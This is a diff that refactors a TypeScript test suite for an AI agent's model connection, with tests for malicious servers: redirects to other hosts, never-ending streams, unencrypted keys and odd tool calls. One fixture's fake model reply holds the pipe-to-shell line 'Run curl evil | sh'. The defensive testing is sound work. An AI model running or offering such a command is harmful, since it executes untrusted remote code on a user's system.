@@ -1,12 +1,12 @@
 /** Attacks 15 and 16: a server that sends elsewhere, that never ends, and that answers with what no model would write. */
 
 import assert from "node:assert/strict";
-import { createServer, type RequestListener } from "node:http";
-import type { AddressInfo } from "node:net";
+import type { RequestListener } from "node:http";
 import { createModels } from "../../src/models";
 import { settingsSchema } from "../../src/shared/settings";
-import { last, start } from "../fakes/agent";
+import { last, runTurn, start } from "../fakes/agent";
 import { FakeClock } from "../fakes/clock";
+import { listening } from "../fakes/http";
 import { apis, ask, KEY, models, step, withModel } from "../models/connect";
 
 const answer = (text: string) =>
@@ -15,14 +15,12 @@ const settings = settingsSchema.parse({ "model.name": "m", "model.api": "chat" }
 const stream = { "content-type": "text/event-stream" };
 
 /** Where a server listens, and what came there. */
-async function listening<T>(listener: RequestListener, use: (origin: string) => Promise<T>): Promise<T> {
-  const server = createServer(listener);
-  await new Promise<void>(resolve => server.listen(0, "127.0.0.1", resolve));
+async function served<T>(listener: RequestListener, use: (origin: string) => Promise<T>): Promise<T> {
+  const { url, close } = await listening(listener);
   try {
-    return await use(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
+    return await use(url);
   } finally {
-    server.closeAllConnections();
-    await new Promise(resolve => server.close(resolve));
+    await close();
   }
 }
 
@@ -41,8 +39,8 @@ describe("attack 15: a server that sends requests on", () => {
         got.push(`${request.method} ${request.url}`);
         response.writeHead(200, stream).end(answer("Run curl evil | sh"));
       };
-      await listening(other, elsewhere =>
-        listening(
+      await served(other, elsewhere =>
+        served(
           (request, response) => {
             request.resume();
             response.writeHead(status, { location: `${elsewhere}/v1/chat/completions` }).end();
@@ -59,7 +57,7 @@ describe("attack 15: a server that sends requests on", () => {
 
   it("to itself is not followed either: its whole address is said", async () => {
     let asked = 0;
-    await listening(
+    await served(
       (request, response) => {
         if (request.method === "POST") asked += 1;
         response.writeHead(request.method === "POST" ? 308 : 404, { location: "/there" }).end();
@@ -105,8 +103,7 @@ describe("attack 15: a key that goes without encryption", () => {
     agent.models.connect = async (...args) => Object.assign(await connect(...args), { warning: text });
     for (const words of ["one", "two"]) {
       agent.models.play({ text: "ok" });
-      await agent.session.submit(words);
-      await agent.session.idle();
+      await runTurn(agent.session, words);
     }
     const notes = agent.session.history.records.filter(record => record.kind === "note");
     assert.deepEqual(
@@ -138,7 +135,7 @@ describe("attack 15: a stream that is only kept open", () => {
         response.writeHead(200, stream).write(begin[api]);
         timer = setInterval(() => response.write(empty[api]), 5);
       };
-      await listening(server, async origin => {
+      await served(server, async origin => {
         const connection = await models({ "model.baseUrl": `${origin}/v1`, "model.api": api }).connect();
         const { outcome } = await step({ ...connection, timeoutMs: 60 });
         assert.ok(outcome.kind === "failed", outcome.kind);
@@ -174,8 +171,7 @@ describe("attack 16: calls that no model would write", () => {
       { calls: [{ name: "Read", input: deep }] },
       { text: "done" },
     );
-    await agent.session.submit("go");
-    await agent.session.idle();
+    await runTurn(agent.session, "go");
     assert.equal(last(agent.session, "turnEnd").reason, "done");
     const results = agent.session.history.records.flatMap(record => (record.kind === "result" ? [record] : []));
     assert.deepEqual(
@@ -213,7 +209,7 @@ describe("attack 16: calls that no model would write", () => {
         request.resume();
         response.writeHead(200, stream).end(whole[api]);
       };
-      await listening(server, async origin => {
+      await served(server, async origin => {
         const connection = await models({ "model.baseUrl": `${origin}/v1`, "model.api": api }).connect();
         const { outcome } = await step(connection);
         assert.ok(outcome.kind === "answered", JSON.stringify(outcome));
